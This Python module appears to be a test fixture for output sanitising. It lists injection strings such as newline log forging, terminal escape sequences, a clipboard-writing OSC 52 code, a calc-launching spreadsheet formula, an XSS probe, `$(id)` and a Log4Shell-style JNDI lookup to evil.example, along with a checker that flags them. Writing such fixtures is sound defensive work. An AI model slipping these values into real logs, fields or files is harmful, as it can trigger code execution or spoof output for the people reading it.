"""
Text that does harm where it is shown as it is: in a log, on a terminal, in a spreadsheet, in a table of a web page.

FORGED stands where a line would begin, had the text got through; so a harness needs to know nothing of the log's format to see it.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator

FORGED = "FORGED"
NASTY = (
    f"a\n{FORGED} b",
    f"a\r\n{FORGED} b",
    f"a\r{FORGED} b",
    f"a\x0b{FORGED}",
    f"a\x0c{FORGED}",
    f"a\x85{FORGED}",
    f"a\u2028{FORGED}",
    f"a\u2029{FORGED}",
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x07\x07",
    "a\x08\x08\x08b",
    "a\x7f",
    "\x00",
    "safe\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200frtl",
    "\u200bzero\ufeffwidth",
    "\U000e0041tag",
    "[bold red]markup[/] [link=http://evil.example]x[/link] :boom:",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "%s%n%x {0} {event} $(id) `id` ${jndi:ldap://evil.example}",
    '","level":"error","event":"FORGED","x":"',
)

_ESCAPES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_KINDS = frozenset({"Cc", "Cf", "Cs", "Co", "Zl", "Zp"})  # what a terminal may obey, or hides


def obeyed(text: str) -> Iterator[str]:
    """What a terminal or a reader of lines would obey in a text of many lines: forged lines, and characters that are not shown."""
    for line in text.split("\n"):
        if line.startswith(FORGED):
            yield f"a forged line: {line[:80]!r}"
        bad = {char for char in line if unicodedata.category(char) in _KINDS}
        if bad:
            yield f"characters {sorted(bad)!r} in {line[:80]!r}"
